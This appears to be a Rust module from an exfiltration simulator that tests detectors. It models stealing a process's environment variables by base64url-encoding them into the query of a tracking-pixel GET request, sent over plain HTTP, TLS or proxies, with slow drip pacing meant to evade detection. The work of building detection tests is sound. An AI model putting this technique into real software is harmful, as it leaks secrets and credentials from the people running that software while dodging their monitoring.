//! The environment leaves in the query of a GET, as a tracking pixel's would (T1041).

use super::alphabet::{BASE64_URL, environment};
use super::{Attack, Channel, Kind, Mission, Pace, Role};
use crate::simulate::programs::REQUESTS;
use crate::simulate::session::{Call, Over, Route, Session};

/// A transparent pixel.
const PIXEL_BYTES: usize = 43;

const ROLES: [Role; 4] = [
    Role { route: Route::Direct, v6: false, act: in_clear },
    Role { route: Route::Direct, v6: false, act: sealed },
    Role { route: Route::Squid, v6: false, act: in_clear },
    Role { route: Route::Bump, v6: false, act: sealed },
];

pub(super) static KIND: Kind = Kind {
    name: "env-query",
    about: "the environment in the query of a GET",
    technique: "T1041",
    channel: Channel::Http,
    found_by: &["sensitive_content", "upload_size", "new_destination"],
    paces: [
        // All of it.
        Pace { contacts: 1..2, bytes: 1_500..3_000, apart_ms: 0..1 },
        // A few variables at a time.
        Pace { contacts: 8..21, bytes: 80..400, apart_ms: 500..20_000 },
        // Half a variable every few minutes.
        Pace { contacts: 40..61, bytes: 40..60, apart_ms: 240_000..600_000 },
    ],
    roles: &ROLES,
    sessions: 1,
};

fn in_clear(session: &mut Session, mission: &Mission) -> Attack {
    act(session, mission, Over::Clear)
}

fn sealed(session: &mut Session, mission: &Mission) -> Attack {
    act(session, mission, Over::Tls)
}

fn act(session: &mut Session, mission: &Mission, over: Over) -> Attack {
    let host = mission.host("px");
    mission.send_over(over, session, (&host, &REQUESTS), |dice, bytes| {
        let query = BASE64_URL.encode(&environment(dice, bytes));
        vec![Call::get(format!("/p.gif?d={query}"), PIXEL_BYTES)]
    })
}
